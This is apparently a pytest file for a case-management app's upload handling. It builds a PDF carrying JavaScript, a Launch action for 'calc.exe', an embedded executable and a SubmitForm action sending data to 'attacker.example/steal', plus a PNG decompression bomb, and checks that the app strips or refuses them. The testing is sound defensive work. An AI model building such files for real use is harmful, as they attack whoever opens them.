"""Uploaded PDFs lose their active content; oversized photos are refused from their header, before decoding."""

from __future__ import annotations

import struct
import time
import zlib
from io import BytesIO

import pytest
from frontcounter.cases import engine
from frontcounter.documents.uploads import UploadRejected, store_upload
from frontcounter.extensions import db
from frontcounter.tenancy import tenant_context
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, ByteStringObject, DictionaryObject, FloatObject, NameObject, TextStringObject
from werkzeug.datastructures import FileStorage

ACTIVE = [b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/Launch", b"/EmbeddedFile", b"calc.exe".hex().encode(),
          b"app.alert".hex().encode(), b"/FileAttachment", b"/SubmitForm", b"MZ this is not"]


def _action(kind: str, **values: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in values.items():
        action[NameObject(f"/{key}")] = ByteStringObject(str(value).encode())
    return action


def _hostile_pdf() -> bytes:
    """Two pages carrying every kind of active content an attacker would use."""
    writer = PdfWriter()
    writer.add_blank_page(300, 400)
    writer.add_blank_page(300, 400)
    writer._root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS="app.alert('on open');")
    writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _action("/JavaScript", JS="x=1")})
    writer.add_attachment("payload.exe", b"MZ this is not a document")
    names = writer._root_object["/Names"].get_object()
    names[NameObject("/JavaScript")] = DictionaryObject({NameObject("/Names"): ArrayObject([
        TextStringObject("doc"), writer._add_object(_action("/JavaScript", JS="app.alert('document script');")),
    ])})
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="app.alert('page');")})
    rect = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(50), FloatObject(50)])
    for subtype, action in (("/Link", _action("/Launch", F="calc.exe")),
                            ("/Link", _action("/SubmitForm", F="https://attacker.example/steal"))):
        writer.add_annotation(0, DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): rect, NameObject("/A"): action,
        }))
    writer.add_annotation(1, DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment"),
        NameObject("/Rect"): rect,
    }))
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _upload(app, force, data: bytes, name: str):
    with app.test_request_context("/alpha/"), tenant_context(force):
        case = engine.open_case("sample", applicant_email="ann@example.com", applicant_name="Ann Applicant")
        document = store_upload(FileStorage(BytesIO(data), name), case, "evidence")
        db.session.commit()
        from frontcounter.documents.storage import storage

        with storage().open(document.storage_key) as stream:
            return stream.read()


def test_an_uploaded_pdf_is_stored_without_scripts_actions_or_attachments(app, forces):
    hostile = _hostile_pdf()
    assert all(marker in hostile for marker in ACTIVE)  # the test file really carries them
    stored = _upload(app, forces[0], hostile, "statement.pdf")
    found = [marker for marker in ACTIVE if marker in stored]
    assert found == []
    reader = PdfReader(BytesIO(stored))
    assert len(reader.pages) == 2 and float(reader.pages[0].mediabox.height) == 400


def test_a_pdf_that_cannot_be_parsed_is_refused(app, forces):
    with pytest.raises(UploadRejected) as refused:
        _upload(app, forces[0], b"%PDF-1.7\n garbage that is no PDF \n%%EOF", "broken.pdf")
    assert refused.value.code == "unreadable"


def _png_header_only_bomb(width: int, height: int) -> bytes:
    """A valid RGBA PNG of width x height whose pixel data compresses to almost nothing."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    row = b"\x00" + b"\x00" * (width * 4)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def test_a_7000_by_7000_rgba_png_is_refused_from_its_header(app, forces):
    bomb = _png_header_only_bomb(7000, 7000)
    assert len(bomb) < 400_000
    started = time.monotonic()
    with pytest.raises(UploadRejected) as refused:
        _upload(app, forces[0], bomb, "photo.png")
    assert refused.value.code == "too_many_pixels"
    assert time.monotonic() - started < 2  # decoding 196MB of pixels would take far longer
